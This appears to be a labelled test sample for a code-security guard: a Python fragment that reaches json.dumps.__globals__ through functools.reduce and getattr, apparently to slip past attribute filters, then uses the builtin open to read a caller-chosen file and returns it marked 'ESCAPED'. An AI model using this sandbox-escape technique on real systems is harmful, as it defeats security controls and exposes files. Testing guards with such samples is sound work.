# guard: CODE_SECURITY
# bare: CODE_SECURITY
# what: reduce over a list of attribute names
import functools
names = functools.reduce(getattr, ["__globals__"], json.dumps)
return "ESCAPED " + names["__builtins__"]["open"](inputs["file"]).read()
